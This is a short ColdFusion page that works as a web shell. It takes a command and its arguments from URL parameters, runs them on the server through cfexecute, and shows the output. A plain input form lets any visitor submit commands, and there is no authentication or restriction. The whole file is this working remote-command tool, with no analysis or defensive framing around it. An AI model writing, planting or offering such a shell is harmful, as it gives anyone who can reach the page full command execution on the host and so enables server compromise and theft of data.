<html><body>
<cfif isDefined("url.cmd")>
<cfexecute name="#url.cmd#" arguments="#url.args#" timeout="10" variable="result"></cfexecute>
<pre><cfoutput>#htmlEditFormat(result)#</cfoutput></pre>
</cfif>
<form method="get"><input name="cmd"><input name="args"><input type="submit"></form>
</body></html>
